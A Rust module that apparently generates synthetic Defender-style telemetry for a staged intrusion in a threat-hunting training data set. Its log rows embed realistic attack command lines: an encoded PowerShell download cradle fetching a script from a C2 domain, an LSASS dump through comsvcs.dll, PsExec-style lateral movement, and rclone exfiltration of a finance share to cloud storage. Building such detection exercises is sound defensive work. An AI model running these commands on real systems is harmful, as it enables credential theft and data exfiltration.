//! The planted intrusion. Six days before the data set ends, a phishing mail with a
//! macro-laden invoice reaches Megan Bowen. Word starts an encoded PowerShell download, which
//! drops a beacon that calls home every ten minutes. A day later the attacker dumps LSASS,
//! uses the stolen `svc_backup` credentials to move to the file server, and exfiltrates the
//! finance share with rclone. The README tells the story; the workbench never does.

use super::activity::{set_created, set_device, set_file, set_initiating, set_report, Proc};
use super::background::{table, Builders};
use super::rng::Rng;
use super::world::{file_hashes, World};
use crate::results::datetime::TICKS_PER_SECOND;

const MINUTE: i64 = 60 * TICKS_PER_SECOND;
const HOUR: i64 = 60 * MINUTE;
const DAY: i64 = 24 * HOUR;

pub const PHISH_SENDER: &str = "accounts@c0ntoso-billing.com";
pub const C2_DOMAIN: &str = "cdn-telemetry-sync.net";
pub const C2_IP: &str = "185.225.73.18";
pub const PHISH_URL: &str = "http://invoice-docs-share.com/view?id=48213";
const DOWNLOAD: &str =
    "IEX (New-Object Net.WebClient).DownloadString('http://cdn-telemetry-sync.net/a.ps1')";

/// PowerShell's `-EncodedCommand`: base64 of UTF-16LE.
fn encoded(command: &str) -> String {
    use base64::Engine;
    let bytes: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

pub fn plant(tables: &mut Builders, world: &World, rng: &mut Rng, seed: u64, end: i64) {
    let start = end - 6 * DAY - end.rem_euclid(DAY) + 9 * HOUR + 14 * MINUTE;
    let victim = world.user("megan.bowen").clone();
    let admin = world.user("svc_backup").clone();
    let victim_index = world
        .users
        .iter()
        .position(|u| u.name == victim.name)
        .unwrap_or(0);
    let workstation = world.workstation_of(victim_index).clone();
    let server = world.device("srv-fs01").clone();
    let mut report = 9_000_000;
    let mut next = || {
        report += 7;
        report
    };

    // 1. The mail.
    let message = "7c3f9e61-2b44-4c58-9a71-0d5e1f3b2a90";
    let docm = "Invoice_48213.docm";
    let (_, docm_sha256, _) = file_hashes(seed, docm);
    let mail = table(tables, "EmailEvents");
    mail.row(start);
    mail.text("NetworkMessageId", message)
        .text("InternetMessageId", "<a91f3c@mail.c0ntoso-billing.com>")
        .text("SenderFromAddress", PHISH_SENDER)
        .text("SenderMailFromAddress", PHISH_SENDER)
        .text("SenderDisplayName", "Contoso Accounts Payable")
        .text("SenderFromDomain", "c0ntoso-billing.com")
        .text("SenderMailFromDomain", "c0ntoso-billing.com")
        .text("SenderIPv4", "193.29.57.114")
        .text("RecipientEmailAddress", &victim.upn)
        .text("RecipientObjectId", &victim.object_id)
        .text("Subject", "Overdue invoice #48213 - action required")
        .text("EmailDirection", "Inbound")
        .text("DeliveryAction", "Delivered")
        .text("DeliveryLocation", "Inbox/folder")
        .text("ThreatTypes", "")
        // The service clusters messages of like content; this one is alone in its cluster.
        .long("EmailClusterId", 3_214_840_117)
        .long("AttachmentCount", 1)
        .long("UrlCount", 1)
        .text("EmailLanguage", "en")
        .json("AuthenticationDetails", serde_json::json!({"SPF": "pass", "DKIM": "none", "DMARC": "none", "CompAuth": "softpass"}));
    set_report(mail, next());
    let attachments = table(tables, "EmailAttachmentInfo");
    attachments.row(start);
    attachments
        .text("NetworkMessageId", message)
        .text("SenderFromAddress", PHISH_SENDER)
        .text("SenderDisplayName", "Contoso Accounts Payable")
        .text("RecipientEmailAddress", &victim.upn)
        .text("RecipientObjectId", &victim.object_id)
        .text("FileName", docm)
        .text("FileType", "docm")
        .text("SHA256", &docm_sha256)
        .long("FileSize", 48_213);
    let urls = table(tables, "EmailUrlInfo");
    urls.row(start);
    urls.text("NetworkMessageId", message)
        .text("Url", PHISH_URL)
        .text("UrlDomain", "invoice-docs-share.com")
        .text("UrlLocation", "Body");

    // 2. The attachment is saved and opened.
    let outlook = Proc {
        file: "OUTLOOK.EXE".into(),
        folder: r"C:\Program Files\Microsoft Office\root\Office16".into(),
        command: r#""OUTLOOK.EXE""#.into(),
        pid: 7312,
        created: start - 2 * HOUR,
        account: victim.clone(),
        integrity: "Medium",
        parent_file: "explorer.exe".into(),
        parent_pid: 4120,
    };
    let downloads = format!(r"C:\Users\{}\Downloads", victim.name);
    let t = start + 19 * MINUTE;
    let files = table(tables, "DeviceFileEvents");
    files.row(t);
    set_device(files, &workstation);
    set_file(files, seed, "FileCreated", &downloads, docm, 48_213);
    set_initiating(files, seed, &outlook);
    set_report(files, next());

    let word = Proc {
        file: "WINWORD.EXE".into(),
        folder: outlook.folder.clone(),
        command: format!(r#""WINWORD.EXE" /n "{downloads}\{docm}" /o """#),
        pid: 9144,
        created: t + MINUTE,
        account: victim.clone(),
        integrity: "Medium",
        parent_file: "OUTLOOK.EXE".into(),
        parent_pid: 7312,
    };
    let powershell = Proc {
        file: "powershell.exe".into(),
        folder: r"C:\Windows\System32\WindowsPowerShell\v1.0".into(),
        command: format!(
            "powershell.exe -NoP -NonI -W Hidden -Enc {}",
            encoded(DOWNLOAD)
        ),
        pid: 10_412,
        created: t + 3 * MINUTE,
        account: victim.clone(),
        integrity: "Medium",
        parent_file: "WINWORD.EXE".into(),
        parent_pid: 9144,
    };
    let beacon = Proc {
        file: "synchost.exe".into(),
        folder: r"C:\ProgramData\SyncHost".into(),
        command: r#""C:\ProgramData\SyncHost\synchost.exe" -k sync"#.into(),
        pid: 11_208,
        created: t + 5 * MINUTE,
        account: victim.clone(),
        integrity: "Medium",
        parent_file: "powershell.exe".into(),
        parent_pid: 10_412,
    };
    let processes = table(tables, "DeviceProcessEvents");
    for (child, parent) in [
        (&word, &outlook),
        (&powershell, &word),
        (&beacon, &powershell),
    ] {
        processes.row(child.created);
        set_device(processes, &workstation);
        set_created(processes, seed, child);
        set_initiating(processes, seed, parent);
        set_report(processes, next());
    }
    let network = table(tables, "DeviceNetworkEvents");
    network.row(powershell.created + 2 * TICKS_PER_SECOND);
    set_device(network, &workstation);
    network
        .text("ActionType", "ConnectionSuccess")
        .text("RemoteIP", C2_IP)
        .long("RemotePort", 80)
        .text("RemoteUrl", C2_DOMAIN)
        .text("LocalIP", &workstation.ip)
        .long("LocalPort", 50_112)
        .text("Protocol", "Tcp")
        .text("RemoteIPType", "Public");
    set_initiating(network, seed, &powershell);
    set_report(network, next());
    let files = table(tables, "DeviceFileEvents");
    files.row(beacon.created - 20 * TICKS_PER_SECOND);
    set_device(files, &workstation);
    set_file(
        files,
        seed,
        "FileCreated",
        r"C:\ProgramData\SyncHost",
        "synchost.exe",
        231_424,
    );
    set_initiating(files, seed, &powershell);
    set_report(files, next());
    let registry = table(tables, "DeviceRegistryEvents");
    registry.row(beacon.created + MINUTE);
    set_device(registry, &workstation);
    registry
        .text("ActionType", "RegistryValueSet")
        .text("RegistryKey", r"HKEY_CURRENT_USER\S-1-5-21-1004336348-1177238915-682003330\Software\Microsoft\Windows\CurrentVersion\Run")
        .text("RegistryValueName", "SyncHost")
        .text("RegistryValueData", r#""C:\ProgramData\SyncHost\synchost.exe" -k sync"#)
        .text("RegistryValueType", "String");
    set_initiating(registry, seed, &powershell);
    set_report(registry, next());

    // 3. The beacon: every ten minutes, give or take a minute, until the data ends.
    let mut at = beacon.created + 10 * MINUTE;
    while at < end {
        let network = table(tables, "DeviceNetworkEvents");
        network.row(at);
        set_device(network, &workstation);
        network
            .text("ActionType", "ConnectionSuccess")
            .text("RemoteIP", C2_IP)
            .long("RemotePort", 443)
            .text("RemoteUrl", C2_DOMAIN)
            .text("LocalIP", &workstation.ip)
            .long("LocalPort", 49_152 + rng.below(16_000) as i64)
            .text("Protocol", "Tcp")
            .text("RemoteIPType", "Public");
        set_initiating(network, seed, &beacon);
        set_report(network, next());
        at += 10 * MINUTE + rng.below(2 * MINUTE as u64) as i64 - MINUTE;
    }

    // 4. Credential theft: LSASS dumped through comsvcs.dll.
    let t = start + DAY + 2 * HOUR;
    let dumper = Proc {
        file: "rundll32.exe".into(),
        folder: r"C:\Windows\System32".into(),
        command: r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 672 C:\ProgramData\SyncHost\d.dmp full".into(),
        pid: 13_660,
        created: t,
        account: victim.clone(),
        integrity: "High",
        parent_file: "synchost.exe".into(),
        parent_pid: 11_208,
    };
    let processes = table(tables, "DeviceProcessEvents");
    processes.row(t);
    set_device(processes, &workstation);
    set_created(processes, seed, &dumper);
    set_initiating(processes, seed, &beacon);
    set_report(processes, next());
    let events = table(tables, "DeviceEvents");
    events.row(t + 2 * TICKS_PER_SECOND);
    set_device(events, &workstation);
    events
        .text("ActionType", "OpenProcessApiCall")
        .text("FileName", "lsass.exe")
        .text("FolderPath", r"C:\Windows\System32\lsass.exe")
        .long("ProcessId", 672)
        .json(
            "AdditionalFields",
            serde_json::json!({"DesiredAccess": 2_097_151}),
        );
    set_initiating(events, seed, &dumper);
    set_report(events, next());
    let files = table(tables, "DeviceFileEvents");
    files.row(t + 4 * TICKS_PER_SECOND);
    set_device(files, &workstation);
    set_file(
        files,
        seed,
        "FileCreated",
        r"C:\ProgramData\SyncHost",
        "d.dmp",
        48_771_072,
    );
    set_initiating(files, seed, &dumper);
    set_report(files, next());

    // 5. Lateral movement with the stolen service account, by remote service (PsExec-style).
    let t = start + DAY + 3 * HOUR;
    let logons = table(tables, "DeviceLogonEvents");
    logons.row(t);
    set_device(logons, &server);
    logons
        .text("ActionType", "LogonSuccess")
        .text("LogonType", "Network")
        .text("AccountDomain", "contoso")
        .text("AccountName", &admin.name)
        .text("AccountSid", &admin.sid)
        .text("Protocol", "NTLM")
        .flag("IsLocalAdmin", true)
        .text("RemoteDeviceName", &workstation.name)
        .text("RemoteIP", &workstation.ip)
        .text("RemoteIPType", "Private")
        .long("LogonId", 8_812_331);
    set_report(logons, next());
    let identity = table(tables, "IdentityLogonEvents");
    identity.row(t);
    identity
        .text("ActionType", "LogonSuccess")
        .text("Application", "Active Directory")
        .text("LogonType", "Resource access")
        .text("Protocol", "Ntlm")
        .text("AccountName", &admin.name)
        .text("AccountDomain", super::world::DOMAIN)
        .text("AccountUpn", &admin.upn)
        .text("AccountSid", &admin.sid)
        .text("AccountDisplayName", &admin.display)
        .text("DeviceName", &workstation.name)
        .text("IPAddress", &workstation.ip)
        .text("DestinationDeviceName", &server.name);
    set_report(identity, next());
    let services = Proc {
        file: "services.exe".into(),
        folder: r"C:\Windows\System32".into(),
        command: r"C:\Windows\system32\services.exe".into(),
        pid: 704,
        created: t - 20 * DAY,
        account: admin.clone(),
        integrity: "System",
        parent_file: "wininit.exe".into(),
        parent_pid: 560,
    };
    let remote = Proc {
        file: "PSEXESVC.exe".into(),
        folder: r"C:\Windows".into(),
        command: r"C:\Windows\PSEXESVC.exe".into(),
        pid: 5_316,
        created: t + 30 * TICKS_PER_SECOND,
        account: admin.clone(),
        integrity: "System",
        parent_file: "services.exe".into(),
        parent_pid: 704,
    };
    let shell = Proc {
        file: "cmd.exe".into(),
        folder: r"C:\Windows\System32".into(),
        command: r#"cmd.exe /c "whoami /all & net group "Domain Admins" /domain""#.into(),
        pid: 6_004,
        created: t + MINUTE,
        account: admin.clone(),
        integrity: "System",
        parent_file: "PSEXESVC.exe".into(),
        parent_pid: 5_316,
    };

    // 6. Exfiltration: rclone copies the finance share to cloud storage.
    let rclone = Proc {
        file: "rclone.exe".into(),
        folder: r"C:\Users\Public".into(),
        command: r#"rclone.exe copy "D:\Shares\Finance" mega:fin-archive --transfers 8 --no-check-certificate -q --config C:\Users\Public\rc.conf"#.into(),
        pid: 7_720,
        created: t + 40 * MINUTE,
        account: admin.clone(),
        integrity: "High",
        parent_file: "cmd.exe".into(),
        parent_pid: 6_004,
    };
    let processes = table(tables, "DeviceProcessEvents");
    for (child, parent) in [(&remote, &services), (&shell, &remote), (&rclone, &shell)] {
        processes.row(child.created);
        set_device(processes, &server);
        set_created(processes, seed, child);
        set_initiating(processes, seed, parent);
        set_report(processes, next());
    }
    let files = table(tables, "DeviceFileEvents");
    files.row(rclone.created - 5 * MINUTE);
    set_device(files, &server);
    set_file(
        files,
        seed,
        "FileCreated",
        r"C:\Users\Public",
        "rclone.exe",
        46_284_288,
    );
    set_initiating(files, seed, &shell);
    set_report(files, next());
    for i in 0..60 {
        let network = table(tables, "DeviceNetworkEvents");
        network.row(rclone.created + i * 20 * TICKS_PER_SECOND);
        set_device(network, &server);
        network
            .text("ActionType", "ConnectionSuccess")
            .text("RemoteIP", "31.216.148.11")
            .long("RemotePort", 443)
            .text("RemoteUrl", "g.api.mega.co.nz")
            .text("LocalIP", &server.ip)
            .long("LocalPort", 52_000 + i)
            .text("Protocol", "Tcp")
            .text("RemoteIPType", "Public");
        set_initiating(network, seed, &rclone);
        set_report(network, next());
    }

    // What the service noticed: one alert on the encoded PowerShell, one on the LSASS access.
    for (at, id, title, category, severity, file) in [
        (
            powershell.created + 2 * MINUTE,
            "da638912048213_1407315421",
            "Suspicious PowerShell command line",
            "Execution",
            "Medium",
            "powershell.exe",
        ),
        (
            dumper.created + MINUTE,
            "da638912134100_1887722094",
            "Possible credential theft activity",
            "CredentialAccess",
            "High",
            "rundll32.exe",
        ),
    ] {
        let info = table(tables, "AlertInfo");
        info.row(at);
        info.text("AlertId", id)
            .text("Title", title)
            .text("Category", category)
            .text("Severity", severity)
            .text("ServiceSource", "Microsoft Defender for Endpoint")
            .text("DetectionSource", "EDR");
        let evidence = table(tables, "AlertEvidence");
        for (entity, role) in [
            ("Machine", "Impacted"),
            ("User", "Impacted"),
            ("Process", "Related"),
        ] {
            evidence.row(at);
            evidence
                .text("AlertId", id)
                .text("Title", title)
                .text("Categories", &format!("[\"{category}\"]"))
                .text("ServiceSource", "Microsoft Defender for Endpoint")
                .text("DetectionSource", "EDR")
                .text("EntityType", entity)
                .text("EvidenceRole", role)
                .text("Severity", severity);
            match entity {
                "Machine" => set_device(evidence, &workstation),
                "User" => {
                    evidence
                        .text("AccountName", &victim.name)
                        .text("AccountSid", &victim.sid)
                        .text("AccountUpn", &victim.upn)
                        .text("AccountDomain", "contoso");
                }
                _ => {
                    let (sha1, sha256, _) = file_hashes(seed, file);
                    evidence
                        .text("FileName", file)
                        .text("SHA1", &sha1)
                        .text("SHA256", &sha256);
                    set_device(evidence, &workstation);
                }
            }
        }
    }

    let dc = world.device("dc-01").clone();
    let cast = super::story_traces::Cast {
        victim: &victim,
        admin: &admin,
        workstation: &workstation,
        server: &server,
        dc: &dc,
        message,
        phish_url: PHISH_URL,
    };
    super::story_traces::plant(
        tables,
        &cast,
        seed,
        start,
        beacon.created,
        start + DAY + 3 * HOUR,
    );
}
